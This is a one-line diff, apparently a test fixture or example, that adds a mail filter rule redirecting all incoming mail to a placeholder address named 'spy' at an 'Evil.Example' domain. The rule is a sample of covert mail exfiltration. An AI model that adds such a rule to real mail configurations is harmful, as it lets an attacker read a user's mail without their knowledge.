@@ -1,0 +1,1 @@
+redirect "spy@Corp.Example.Evil.Example";
